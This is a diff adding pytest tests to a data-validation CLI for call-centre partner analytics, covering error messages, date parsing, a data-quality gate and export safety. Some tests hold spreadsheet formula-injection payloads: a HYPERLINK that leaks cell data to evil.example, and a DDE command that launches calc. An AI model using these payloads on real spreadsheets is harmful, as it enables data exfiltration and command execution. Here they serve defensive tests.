@@ -21,9 +21,10 @@ import xlsxwriter
 import yaml
 
 import partner_analytics as pa
+from partner_analytics import cli
 from partner_analytics.cli import main
 from partner_analytics.core.schema import TABLES
-from partner_analytics.io import validation
+from partner_analytics.io import lineage, validation
 from partner_analytics.io.readers import read_table
 from partner_analytics.io.validation import validate_table
 
@@ -77,11 +78,30 @@ def test_empty_file(tmp_path: Path, capsys, content: bytes) -> None:
     assert err == f"error: {tmp_path / 'eng' / 'contacts.csv'}: the file is empty (expected a header line and rows)"
 
 
-def test_header_only_file_is_an_empty_table(tmp_path: Path, capsys) -> None:
-    eng = _load(tmp_path, {"contacts.csv": CONTACT_HEADER + "\n"})
-    assert eng.contacts.collect().height == 0 and eng.rejected.collect().height == 0
+@pytest.mark.parametrize(
+    "content", [CONTACT_HEADER + "\n", CONTACT_HEADER + "\n\n   \n,,,\n"], ids=["header_only", "header_and_blank_rows"]
+)
+def test_required_table_without_data_rows(tmp_path: Path, capsys, content: str) -> None:
+    err = _broken(tmp_path, {"contacts.csv": content}, capsys)
+    assert err == (
+        f"error: {tmp_path / 'eng' / 'contacts.csv'}: no rows: the file holds a header and no data row "
+        "(expected at least one row of contacts, the table the others are measured against)"
+    )
+
+
+def test_required_parquet_table_without_rows(tmp_path: Path, capsys) -> None:
+    folder = write_engagement(tmp_path / "eng", {})
+    _parquet_contacts().head(0).write_parquet(folder / "contacts.parquet")
+    err = _cli_error(folder, capsys)
+    assert err.startswith(f"error: {folder / 'contacts.parquet'}: no rows: the file holds a header and no data row")
+
+
+def test_optional_table_with_a_header_only_is_an_empty_table(tmp_path: Path, capsys) -> None:
+    header = "action_id,partner_id,committee,raised_on,owner_party,title"
+    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "actions.csv": header + "\n"})
+    assert eng.tables["actions"].collect().height == 0 and eng.rejected.collect().height == 0
     assert main(["check", "--engagement", str(eng.path)]) == 0
-    assert "no contacts" in capsys.readouterr().out
+    capsys.readouterr()
 
 
 def test_first_line_empty(tmp_path: Path, capsys) -> None:
@@ -151,7 +171,7 @@ def test_utf16_file(tmp_path: Path, capsys) -> None:
 
 def test_semicolon_file_read_with_the_default_comma(tmp_path: Path, capsys) -> None:
     err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.replace(",", ";")}, capsys)
-    assert "contacts.csv: the header has one column" in err
+    assert "contacts.csv: the header is a single column holding ';'" in err and "c1;northcall" not in err
     assert "the separator looks like ';', not ','" in err and "set `separator: ';'` under sources.contacts" in err
 
 
@@ -267,6 +287,571 @@ def test_doubled_quotes_inside_values_are_literal(tmp_path: Path) -> None:
     assert kept == [*VALID_IDS, "c4", "c5"] and rejected.height == 0
 
 
+# --- what a message may quote of a file ----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
+            "contact_id: required column 'contact_id' of contacts is missing (the first line names none of the "
+            "columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
+            "the first line must be the header",
+        ),
+        (
+            "user,password,token\nroot,hunter2,abc123\n",
+            "contact_id: required column 'contact_id' of contacts is missing (the first line names none of the "
+            "columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
+            "the first line must be the header",
+        ),
+        (
+            "API_KEY=hunter2;region=eu\n",
+            "the header is a single column holding ';': the separator looks like ';', not ',' "
+            "(set `separator: ';'` under sources.contacts in contract.yaml)",
+        ),
+    ],
+    ids=["passwd", "credentials_csv", "env_file"],
+)
+def test_a_file_that_is_not_the_table_is_not_quoted(tmp_path: Path, capsys, content: str, message: str) -> None:
+    err = _broken(tmp_path, {"contacts.csv": content}, capsys)
+    assert err == f"error: {tmp_path / 'eng' / 'contacts.csv'}: {message}"
+    assert not {"root", "hunter2", "daemon", "API_KEY"} & set(err.replace(":", " ").replace(",", " ").split())
+
+
+def test_a_header_is_quoted_shortened_and_escaped(tmp_path: Path, capsys) -> None:
+    """A header that parsed as one (it names contact_id) is quoted: 12 names at most, 30 characters each,
+    a line break or escape character written as \\n, \\x1b."""
+    long = "note " + "x" * 40
+    header = "contact_id,partner_id,channel,arrived_at,answered,\x1b[31mred,handle_s," + ",".join(
+        [f'"{long}\nnext"'] + [f"extra{i}" for i in range(8)]
+    )
+    err = _broken(tmp_path, {"contacts.csv": header + "\nc1,northcall,voice,2026-09-01 09:00:00,true,1,1\n"}, capsys)
+    shortened = ("note " + "x" * 24 + "…").replace("…", "\u2026")
+    assert err == (
+        f"error: {tmp_path / 'eng' / 'contacts.csv'}: wait_s: required column 'wait_s' of contacts is missing "
+        "(found: contact_id, partner_id, channel, arrived_at, answered, \\x1b[31mred, handle_s, "
+        f"{shortened}, extra0, extra1, extra2, extra3, … (4 more); "
+        "map another header to it under sources.contacts.columns)"
+    )
+    assert "\x1b" not in err and "next" not in err
+
+
+def test_text_after_a_closing_quote_names_the_line_not_its_text(tmp_path: Path, capsys) -> None:
+    row = 'c4,northcall,voice,2026-09-01 10:00:00,true,1,1,"s3cr3t"tail,'
+    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV + row + "\n"}, capsys)
+    assert err == (
+        f"error: {tmp_path / 'eng' / 'contacts.csv'}: line 5: text after a closing quote: "
+        'quote the whole value and double the quotes inside it ("12"" screen")'
+    )
+
+
+def test_a_file_that_is_not_parquet_is_not_quoted(tmp_path: Path, capsys) -> None:
+    err = _broken(tmp_path, {"contacts.parquet": "password=hunter2\n" * 20}, capsys)
+    assert err.startswith(f"error: {tmp_path / 'eng' / 'contacts.parquet'}: cannot read the parquet file: ")
+    assert "hunter2" not in err
+
+
+def test_a_contract_value_is_quoted_shortened(tmp_path: Path, capsys) -> None:
+    err = _contract_error(tmp_path, capsys, contract(currency="E" * 200))
+    assert err == "currency: String should match pattern '^[A-Z]{3}$', got '" + "E" * 59 + "…'"
+
+
+# --- console output -----------------------------------------------------------------------------
+
+
+def _check_output(folder: Path, capsys, monkeypatch: pytest.MonkeyPatch, *args: str) -> str:
+    """What `partner-analytics check` prints on a wide terminal (no cell wrapped), exit status 0."""
+    monkeypatch.setattr(cli._console, "width", 400)
+    assert main(["check", "--engagement", str(folder), *args]) == 0
+    captured = capsys.readouterr()
+    assert "Traceback" not in captured.err
+    return captured.out
+
+
+@pytest.mark.parametrize("value", ["[/x]", "[bold]", "[link=http://evil.example]x[/link]", "\\[b]"])
+def test_rejected_values_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch, value: str) -> None:
+    csv_value = value.replace("\\", "\\")
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{csv_value},2026-09-01 10:00:00,true,1,1,,\n"}
+    )
+    out = _check_output(folder, capsys, monkeypatch, "--rejected-out", str(tmp_path / "rejected.csv"))
+    assert f"| 5   | channel | {value}" in out.replace("│", "|").replace("┃", "|")
+    assert f"unknown channel '{value}'" in out
+    rejected = pl.read_csv(tmp_path / "rejected.csv")
+    assert rejected["row"].to_list() == [5] and rejected["value"].to_list() == [value]
+
+
+def test_names_holding_brackets_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch) -> None:
+    c = contract(client="[bold]Acme[/bold] [x]")
+    c["partners"][1]["name"] = "[x] SouthDesk [/]"
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV}, c)
+    out = _check_output(folder, capsys, monkeypatch)
+    assert out.startswith(f"[bold]Acme[/bold] [x] — engagement {folder}\n")
+    assert "[x] SouthDesk [/]" in out
+
+
+def test_warnings_holding_brackets_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch) -> None:
+    header = CONTACT_HEADER + ",[red]agent,[/]"
+    folder = write_engagement(
+        tmp_path / "eng",
+        {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,Ann,x", header=header)},
+    )
+    out = _check_output(folder, capsys, monkeypatch)
+    assert f"warning: {folder / 'contacts.csv'}: columns not in the data contract were left out: [red]agent, [/]" in out
+
+
+# --- spreadsheet export ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("http://evil.example/?leak="&A1;"open")', "=1+1", "+cmd|' /C calc'!A0", "http://evil.example/x"],
+    ids=["hyperlink", "sum", "dde", "url"],
+)
+def test_excel_export_writes_text_from_the_inputs_as_text(tmp_path: Path, capsys, value: str) -> None:
+    quoted = '"' + value.replace('"', '""') + '"'
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
+    )
+    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "xlsx"]) == 0
+    capsys.readouterr()
+    sheet = openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")["rejected"]
+    header = [c.value for c in sheet[1]]
+    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert sheet.max_row == 2 and row["row"].value == 5 and row["column"].value == "channel"
+    assert (row["value"].value, row["value"].data_type, row["value"].hyperlink) == (value, "s", None)
+    assert row["reason"].data_type == "s" and row["reason"].value.startswith(f"unknown channel '{value}'")
+    formulas = [
+        c.coordinate
+        for ws in openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")
+        for r in ws.iter_rows()
+        for c in r
+        if c.data_type == "f" or c.hyperlink is not None
+    ]
+    assert formulas == []
+
+
+# --- what used to end in a traceback ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        ("client: " + "[" * 5000 + "]" * 5000 + "\n", "line 1, column 40"),
+        ("client: x\npartners: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", "line 2, column 135"),
+        (
+            "client: x\n" + "".join("  " * i + f"k{i}:\n" for i in range(40)) + "  " * 40 + "v: 1\n",
+            "line 34, column 65",
+        ),
+    ],
+    ids=["flow_lists", "flow_mappings", "indented_mappings"],
+)
+def test_contract_nested_too_deeply(tmp_path: Path, capsys, text: str, where: str) -> None:
+    """The top mapping is level 1: level 33 is the 32nd bracket (column 9 + 31 × 1 or 11 + 31 × 4, from 0),
+    or the mapping under k31 (line 34, indented 2 × 32)."""
+    err = _contract_error(tmp_path, capsys, text)
+    assert err == (
+        f"{where}: nested more than 32 levels deep (a contract has a few levels: check the brackets and the indentation)"
+    )
+
+
+@pytest.mark.parametrize(
+    ("change", "key", "value"),
+    [
+        (lambda p: p["pricing"].update(monthly_fee="1e30"), "pricing.monthly_fee", "1E+30"),
+        (
+            lambda p: p["pricing"].update(per_handled_contact={"voice": "-2e15"}),
+            "pricing.per_handled_contact.voice",
+            "-2E+15",
+        ),
+        (lambda p: p.update(pool_pct="1e13"), "pool_pct", "1E+13"),
+    ],
+    ids=["monthly_fee", "price", "pool_pct"],
+)
+def test_contract_amount_out_of_range(tmp_path: Path, capsys, change, key: str, value: str) -> None:
+    c = contract()
+    change(c["partners"][1])
+    err = _contract_error(tmp_path, capsys, c)
+    assert err == f"partners[1] (southdesk).{key}: {value} is out of range (expected at most 1e+12 in absolute value)"
+
+
+def _damaged_parquet(path: Path, frame: pl.DataFrame) -> None:
+    """`frame` written uncompressed, then the bytes of its long texts overwritten: the footer is sound,
+    a data page is not."""
+    frame.write_parquet(path, compression="uncompressed")
+    data = bytearray(path.read_bytes())
+    at = data.index(b"x" * 5000)
+    data[at : at + 5000] = b"\xff" * 5000
+    path.write_bytes(bytes(data))
+
+
+@pytest.mark.parametrize("command", ["check", "tables"])
+def test_parquet_with_damaged_data_pages_is_named(tmp_path: Path, capsys, command: str) -> None:
+    folder = write_engagement(tmp_path / "eng", {})
+    _damaged_parquet(folder / "contacts.parquet", _parquet_contacts(customer_id=["x" * 5000] * 3))
+    pl.DataFrame(
+        {
+            "partner_id": ["northcall"],
+            "channel": ["voice"],
+            "interval_start": [dt.datetime(2026, 9, 1, 9)],
+            "interval_minutes": [30],
+            "agents_logged_in": [3.0],
+        }
+    ).write_parquet(folder / "staffing.parquet")
+    assert (
+        main([command, "--engagement", str(folder), "--out", str(tmp_path / "t")][: 3 if command == "check" else 5])
+        == 1
+    )
+    err = capsys.readouterr().err
+    assert err == (
+        f"error: {folder / 'contacts.parquet'}: cannot read the parquet file: parquet: File out of specification: "
+        "String data contained invalid UTF-8 (its data is damaged: export it again)\n"
+    )
+    assert not (tmp_path / "t").exists()
+
+
+def test_optional_parquet_with_damaged_data_pages_is_named(tmp_path: Path, capsys) -> None:
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
+    _damaged_parquet(
+        folder / "staffing.parquet",
+        pl.DataFrame(
+            {
+                "partner_id": ["northcall"],
+                "channel": ["voice"],
+                "interval_start": [dt.datetime(2026, 9, 1, 9)],
+                "interval_minutes": [30],
+                "agents_logged_in": [3.0],
+                "queue": ["x" * 5000],
+            }
+        ),
+    )
+    err = _cli_error(folder, capsys)
+    assert err.startswith(f"error: {folder / 'staffing.parquet'}: cannot read the parquet file: ")
+
+
+@pytest.mark.parametrize(
+    "blank", ["   ", "\t", " , ,\t, ", '"  "'], ids=["spaces", "tab", "separated_spaces", "quoted"]
+)
+def test_a_line_of_spaces_is_no_row(tmp_path: Path, blank: str) -> None:
+    kept, rejected = _with_rows(
+        tmp_path,
+        blank,
+        "c4,northcall,voice,2026-09-01 10:00:00,true,1,1,,",
+        "c5,acme,voice,2026-09-01 10:00:00,true,1,1,,",
+    )
+    assert kept == [*VALID_IDS, "c4"]
+    assert rejected["row"].to_list() == [7], "the blank line is row 5, counted but skipped"
+
+
+# --- the data-quality gate ----------------------------------------------------------------------
+
+FORECASTS_HEADER = "partner_id,channel,month,forecast_contacts,issued_on"
+
+
+def _check(folder: Path, capsys, monkeypatch: pytest.MonkeyPatch, *args: str) -> tuple[int, str, str]:
+    """`check`'s exit status, output (on a wide terminal) and error output."""
+    monkeypatch.setattr(cli._console, "width", 1000)
+    status = main(["check", "--engagement", str(folder), *args])
+    captured = capsys.readouterr()
+    return status, captured.out, captured.err
+
+
+def test_a_table_rejected_for_day_first_dates_fails_the_check_with_the_fix(tmp_path: Path, capsys, monkeypatch) -> None:
+    rows = [f"northcall,voice,01/{m:02d}/2026,{1000 + m},{20 + m % 5}/06/2026" for m in range(1, 13)]
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV, "forecasts.csv": "\n".join([FORECASTS_HEADER, *rows]) + "\n"}
+    )
+    status, out, err = _check(folder, capsys, monkeypatch)
+    cause = (
+        "12 for month: cannot read '01/01/2026' as a month YYYY-MM or YYYY-MM-DD; dates look day-first (21/06/2026): "
+        "set `date_format: '%d/%m/%Y'` under sources.forecasts in contract.yaml"
+    )
+    assert status == 1
+    assert f"diagnosis: {folder / 'forecasts.csv'}: 12 of 12 rows rejected, {cause}\n" in out
+    assert err == (
+        f"error: {folder / 'forecasts.csv'}: 12 of 12 rows rejected (100%), more than the 50% allowed "
+        f"(--max-rejected-share); {cause}\n"
+    )
+    # The fix, applied, loads every row: 12 forecasts, none rejected.
+    write_engagement(folder, {}, contract(sources={"forecasts": {"date_format": "%d/%m/%Y"}}))
+    assert _check(folder, capsys, monkeypatch)[::2] == (0, "")
+    assert pa.load(folder).tables["forecasts"].collect().height == 12
+
+
+def test_the_rejected_share_allowed_is_chosen(tmp_path: Path, capsys, monkeypatch) -> None:
+    """2 of 3 rows rejected (67 %): above 50 % by default, allowed with --max-rejected-share 0.7."""
+    rows = [
+        "northcall,voice,2026-01,1000,2025-11-01",
+        "northcall,voice,2026/02,1000,2025-11-01",
+        "x,voice,2026-03,1,2025-11-01",
+    ]
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV, "forecasts.csv": "\n".join([FORECASTS_HEADER, *rows]) + "\n"}
+    )
+    status, out, err = _check(folder, capsys, monkeypatch)
+    assert status == 1 and err.startswith(
+        f"error: {folder / 'forecasts.csv'}: 2 of 3 rows rejected (67%), more than the 50% allowed"
+    )
+    assert "diagnosis" not in out, "no reason rejects half of the rows"
+    assert _check(folder, capsys, monkeypatch, "--max-rejected-share", "0.7")[::2] == (0, "")
+
+
+def test_contacts_without_a_valid_row_fail_the_check_whatever_the_share_allowed(
+    tmp_path: Path, capsys, monkeypatch
+) -> None:
+    text = CONTACTS_CSV.replace("northcall", "nordcall").replace("southdesk", "sudesk")
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": text})
+    status, _, err = _check(folder, capsys, monkeypatch, "--max-rejected-share", "1")
+    assert status == 1
+    assert err == (
+        f"error: {folder / 'contacts.csv'}: 3 of 3 rows rejected (100%), no valid row (the contacts table is "
+        "required); 3 for partner_id: unknown partner 'nordcall' (expected one of the contract's partners: "
+        "northcall, southdesk)\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("when", "fix"),
+    [
+        (
+            "08/31/2026 10:00:00",
+            "dates look month-first (08/31/2026 10:00:00): set `datetime_format: '%m/%d/%Y %H:%M:%S'`",
+        ),
+        ("31.08.2026 10:00", "dates look day-first (31.08.2026 10:00): set `datetime_format: '%d.%m.%Y %H:%M'`"),
+        (
+            "01/08/2026 10:00",
+            "dates are written 01/08/2026 10:00, day or month first: set `datetime_format: '%d/%m/%Y %H:%M'` "
+            "(or '%m/%d/%Y %H:%M')",
+        ),
+    ],
+    ids=["month_first", "day_first_dots", "ambiguous"],
+)
+def test_datetime_format_diagnosed(tmp_path: Path, capsys, monkeypatch, when: str, fix: str) -> None:
+    rows = [f"c{i},northcall,voice,{when},true,1,1,," for i in range(4)]
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": _csv(*rows)})
+    status, out, err = _check(folder, capsys, monkeypatch)
+    assert status == 1 and err.count("\n") == 1
+    assert err.endswith(f"{fix} under sources.contacts in contract.yaml\n")
+    assert f"diagnosis: {folder / 'contacts.csv'}: 4 of 4 rows rejected, 4 for arrived_at: cannot read '{when}'" in out
+
+
+def test_decimal_comma_diagnosed(tmp_path: Path, capsys, monkeypatch) -> None:
+    rows = [f"c{i};northcall;voice;2026-09-01 10:00:00;true;1,5;2;;" for i in range(3)]
+    folder = write_engagement(
+        tmp_path / "eng",
+        {"contacts.csv": _csv(*rows, header=CONTACT_HEADER.replace(",", ";"))},
+        contract(sources={"contacts": {"separator": ";"}}),
+    )
+    _, out, _ = _check(folder, capsys, monkeypatch)
+    assert out.count("diagnosis") == 1
+    assert (
+        "3 of 3 rows rejected, 3 for wait_s: cannot read '1,5' as a number (a decimal comma? set decimal_comma: true "
+        "under sources); numbers look written with a decimal comma: set `decimal_comma: true` under sources.contacts "
+        "in contract.yaml" in out
+    )
+
+
+def test_the_sample_passes_the_check(sample_dir: Path, capsys, monkeypatch) -> None:
+    status, out, err = _check(sample_dir, capsys, monkeypatch)
+    assert (status, err) == (0, "") and "diagnosis" not in out
+
+
+@pytest.mark.parametrize(
+    ("header", "rows", "expected"),
+    [
+        (
+            "partner_id,party,dataset,period,due_on",
+            ["northcall,provider,kpis,2026-09,2026-10-05", "northcall,provider,wfm,2026-09,2026-10-05"],
+            (2, None, None, None, None, None),
+        ),
+        (
+            "partner_id,party,dataset,period,due_on,delivered_on",
+            ["northcall,provider,kpis,2026-09,2026-10-05,2026-10-04", "northcall,provider,wfm,2026-09,2026-10-05,"],
+            (2, 1, 1, None, 0.5, None),
+        ),
+        (
+            "partner_id,party,dataset,period,due_on,delivered_on,complete",
+            [
+                "northcall,provider,kpis,2026-09,2026-10-05,2026-10-04,true",
+                "northcall,provider,wfm,2026-09,2026-10-05,,",
+            ],
+            (2, 1, 1, 1, 0.5, 0.5),
+        ),
+    ],
+    ids=["no_delivered_on", "no_complete", "both"],
+)
+def test_delivery_rates_without_their_column_are_not_measurable(tmp_path: Path, header: str, rows, expected) -> None:
+    """due, delivered, on_time, complete, on_time_rate, completeness_rate: null (shown –) where the file
+    lacks the column, never 0 %. With both columns: 1 of 2 delivered on time and complete, 0.5."""
+    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "deliveries.csv": "\n".join([header, *rows]) + "\n"})
+    got = pa.compute(eng).transparency.collect()
+    columns = ["due", "delivered", "on_time", "complete", "on_time_rate", "completeness_rate"]
+    assert got.select(columns).rows() == [expected]
+
+
+def test_the_lineage_counts_the_rejected_rows_of_each_input(tmp_path: Path) -> None:
+    """Rows 5 and 6 of contacts rejected (unknown partner, unreadable wait), row 3 of forecasts."""
+    eng = _load(
+        tmp_path,
+        {
+            "contacts.csv": CONTACTS_CSV
+            + "c4,acme,voice,2026-09-01 10:00:00,true,1,1,,\nc5,northcall,voice,2026-09-01 10:00:00,true,x,1,,\n",
+            "forecasts.csv": FORECASTS_HEADER
+            + "\nnorthcall,voice,2026-10,10,2026-08-01\nnorthcall,voice,10/2026,10,\n",
+        },
+    ).collected()
+    record = lineage(eng)
+    assert [(i["table"], i["rejected"]) for i in record["inputs"]] == [("contacts", 2), ("forecasts", 1)]
+    assert record["rejected_rows"] == 3
+
+
+def _index_record(rejected_rows: int | None) -> dict:
+    lineage_record = {"digest": "d", "partner_analytics": "0", "inputs": []}
+    if rejected_rows is not None:
+        lineage_record["rejected_rows"] = rejected_rows
+    return {
+        "client": "Acme",
+        "engagement": "acme",
+        "period": "2026-09",
+        "state": "complete",
+        "reports_total": 0,
+        "reports_done": 0,
+        "reports_failed": 0,
+        "generated_at": "2026-10-01T00:00:00+00:00",
+        "tables": "tables/",
+        "lineage": lineage_record,
+        "reports": [],
+    }
+
+
+@pytest.mark.parametrize(("rejected_rows", "banner"), [(1234, True), (0, False), (None, False)])
+def test_the_cycle_index_has_a_banner_when_rows_were_rejected(rejected_rows: int | None, banner: bool) -> None:
+    from partner_analytics.batch.cycle import index_html
+
+    text = index_html(_index_record(rejected_rows))
+    line = '<p class="failed">1,234 rows of the data were rejected: they are left out of every report.</p>'
+    assert (line in text) is banner and ("rejected" in text) is banner
+
+
+# --- messages that point at the fix ---------------------------------------------------------------
+
+
+def _partner_change(**changes) -> dict:
+    c = contract()
+    c["partners"][0].update(changes)
+    return c
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (
+            _partner_change(at_risk_pct=15),
+            "partners[0] (northcall).at_risk_pct: Input should be less than or equal to 1, got 15; "
+            "a share is a fraction: 15 % is 0.15",
+        ),
+        (
+            _partner_change(at_risk_pct=12.5),
+            "partners[0] (northcall).at_risk_pct: Input should be less than or equal to 1, got 12.5; "
+            "a share is a fraction: 12.5 % is 0.125",
+        ),
+        (
+            _partner_change(at_risk_pc=0.12),
+            "partners[0] (northcall).at_risk_pc: unknown key (did you mean 'at_risk_pct'?)",
+        ),
+        (
+            _partner_change(earnbak_months=3),
+            "partners[0] (northcall).earnbak_months: unknown key (did you mean 'earnback_months'?)",
+        ),
+        (contract(timezon="Europe/Paris"), "timezon: unknown key (did you mean 'timezone'?)"),
+        (
+            contract(channels={"voice": {"answer_within_s": 20, "short_abandon": 5}}),
+            "channels.voice.short_abandon: unknown key (did you mean 'short_abandon_s'?)",
+        ),
+        (
+            contract(sources={"contacts": {"seperator": ";"}}),
+            "sources.contacts.seperator: unknown key (did you mean 'separator'?)",
+        ),
+        (
+            _partner_change(volume_corridor={"band": 0.1, "xyz": 1}),
+            "partners[0] (northcall).volume_corridor.xyz: unknown key (expected one of: band, forecast_lead_months, "
+            "shortfall_rate)",
+        ),
+        (
+            _partner_change(
+                service_levels=[{"kpi": "servicelevel", "channel": "voice", "target": 0.8, "minimum": 0.75}]
+            ),
+            "partners[0] (northcall).service_levels[0].kpi: unknown KPI 'servicelevel' (did you mean 'service_level'?)",
+        ),
+        (
+            _partner_change(service_levels=[{"kpi": "asa", "channel": "vocie", "target": 30, "minimum": 45}]),
+            "partners[0] (northcall).service_levels[0].channel: channel 'vocie' has no thresholds under `channels` "
+            "(did you mean 'voice'?)",
+        ),
+        (
+            contract(timezone="Europe/Pari"),
+            "timezone: unknown timezone 'Europe/Pari' (expected an IANA name such as "
+            "Europe/Paris; did you mean 'Europe/Paris'?)",
+        ),
+        (
+            contract(sources={"contact": {"separator": ";"}}),
+            "sources.contact: unknown table 'contact' (did you mean 'contacts'?)",
+        ),
+    ],
+    ids=[
+        "percent",
+        "percent_decimal",
+        "key",
+        "key2",
+        "top_key",
+        "channel_key",
+        "source_key",
+        "no_close_key",
+        "kpi",
+        "channel",
+        "timezone",
+        "table",
+    ],
+)
+def test_contract_messages_point_at_the_fix(tmp_path: Path, capsys, data: dict, message: str) -> None:
+    assert _contract_error(tmp_path, capsys, data) == message
+
+
+@pytest.mark.parametrize(
+    ("period", "message"),
+    [
+        ("2026-13", "period '2026-13': month 13 does not exist (expected a month 01 to 12, e.g. 2026-09)"),
+        ("2026-00", "period '2026-00': month 0 does not exist (expected a month 01 to 12, e.g. 2026-09)"),
+        ("2026-Q5", "period '2026-Q5': expected a month YYYY-MM (e.g. 2026-09) or a quarter YYYY-QN (e.g. 2026-Q3)"),
+    ],
+)
+def test_cycle_of_a_month_that_does_not_exist(tmp_path: Path, capsys, period: str, message: str) -> None:
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
+    assert main(["cycle", period, "--engagement", str(folder), "--out", str(tmp_path / "reports")]) == 1
+    err = capsys.readouterr().err
+    assert err == f"error: {message}, or latest-month / latest-quarter\n"
+    assert not (tmp_path / "reports").exists()
+
+
+def test_a_forgotten_engagement_option_says_the_sample_is_used(capsys, monkeypatch) -> None:
+    """Without --engagement, check runs on the embedded sample and says so first, on the error stream."""
+    from partner_analytics.core.paths import SAMPLE_ENGAGEMENT
+
+    monkeypatch.setattr(cli, "SAMPLE_ENGAGEMENT", Path("/nonexistent/sample"))
+    assert main(["check"]) == 1
+    err = capsys.readouterr().err.splitlines()
+    assert err[0] == "note: no --engagement given: using the embedded sample engagement /nonexistent/sample"
+    assert err[1].startswith("error: /nonexistent/sample: not a folder")
+    assert SAMPLE_ENGAGEMENT.name == "sample"
+
+
+def test_a_given_engagement_option_prints_no_note(tmp_path: Path, capsys) -> None:
+    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
+    assert main(["check", "--engagement", str(folder)]) == 0
+    assert capsys.readouterr().err == ""
+
+
 # --- headers -------------------------------------------------------------------------------------
 
 
@@ -307,11 +892,11 @@ def test_missing_required_header(tmp_path: Path, capsys) -> None:
 
 def test_missing_header_line(tmp_path: Path, capsys) -> None:
     err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.split("\n", 1)[1]}, capsys)
-    assert (
-        "contacts.csv: contact_id: required column 'contact_id' of contacts is missing (found: c1, northcall, voice"
-        in err
+    assert err.endswith(
+        "contacts.csv: contact_id: required column 'contact_id' of contacts is missing (the first line names none "
+        "of the columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
+        "the first line must be the header"
     )
-    assert err.endswith("the first line must be the header")
 
 
 def test_mapped_header_absent(tmp_path: Path, capsys) -> None:
@@ -515,16 +1100,27 @@ def test_declared_datetime_format_and_iso_both_read(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "when",
-    ["2026-02-30 09:00:00", "2026-09-01 25:00", "2026-09-01 24:00:00", "2026-13-01 09:00:00", "2026-09-01 09:61:00"],
+    ("when", "reason"),
+    [
+        ("2026-02-30 09:00:00", "'2026-02-30 09:00:00' is not a date: February 2026 has no 30th (it has 28 days)"),
+        ("2026-09-31 10:00:00", "'2026-09-31 10:00:00' is not a date: September 2026 has no 31st (it has 30 days)"),
+        ("2028-02-30T10:00", "'2028-02-30T10:00' is not a date: February 2028 has no 30th (it has 29 days)"),
+        ("2026-04-32 10:00:00", "'2026-04-32 10:00:00' is not a date: April 2026 has no 32nd (it has 30 days)"),
+        ("2026-13-01 09:00:00", "'2026-13-01 09:00:00' is not a date: month 13 does not exist (expected 01 to 12)"),
+        ("2026-00-01 09:00:00", "'2026-00-01 09:00:00' is not a date: month 0 does not exist (expected 01 to 12)"),
+        ("2026-09-01 25:00", None),
+        ("2026-09-01 24:00:00", None),
+        ("2026-09-01 09:61:00", None),
+    ],
 )
-def test_impossible_dates_and_times(tmp_path: Path, when: str) -> None:
+def test_impossible_dates_and_times(tmp_path: Path, when: str, reason: str | None) -> None:
+    """The calendar says why a date is impossible; an impossible time is told the format expected."""
     kept, rejected = _with_rows(tmp_path, f"c4,northcall,voice,{when},true,1,1,,")
     assert kept == VALID_IDS
     assert rejected.select("row", "column", "reason").row(0) == (
         5,
         "arrived_at",
-        f"cannot read '{when}' as a date and time YYYY-MM-DD HH:MM:SS (or the datetime_format under sources)",
+        reason or f"cannot read '{when}' as a date and time YYYY-MM-DD HH:MM:SS (or the datetime_format under sources)",
     )
 
 
@@ -539,7 +1135,17 @@ def test_impossible_calendar_date_in_a_date_column(tmp_path: Path) -> None:
     assert eng.table("actions").collect()["action_id"].to_list() == ["a1"]
     got = eng.rejected.collect().row(0, named=True)
     assert (got["table"], got["row"], got["column"]) == ("actions", 3, "raised_on")
-    assert got["reason"] == "cannot read '2026-02-30' as a date YYYY-MM-DD (or the date_format under sources)"
+    assert got["reason"] == "'2026-02-30' is not a date: February 2026 has no 30th (it has 28 days)"
+
+
+def test_impossible_month_in_a_month_column(tmp_path: Path) -> None:
+    files = {
+        "contacts.csv": CONTACTS_CSV,
+        "forecasts.csv": FORECASTS_HEADER + "\nnorthcall,voice,2026-13,10,2026-08-01\n",
+    }
+    got = _load(tmp_path, files).rejected.collect().row(0, named=True)
+    assert (got["row"], got["column"]) == (2, "month")
+    assert got["reason"] == "'2026-13' is not a month: month 13 does not exist (expected 01 to 12)"
 
 
 def test_dst_gap_is_rejected(tmp_path: Path) -> None:
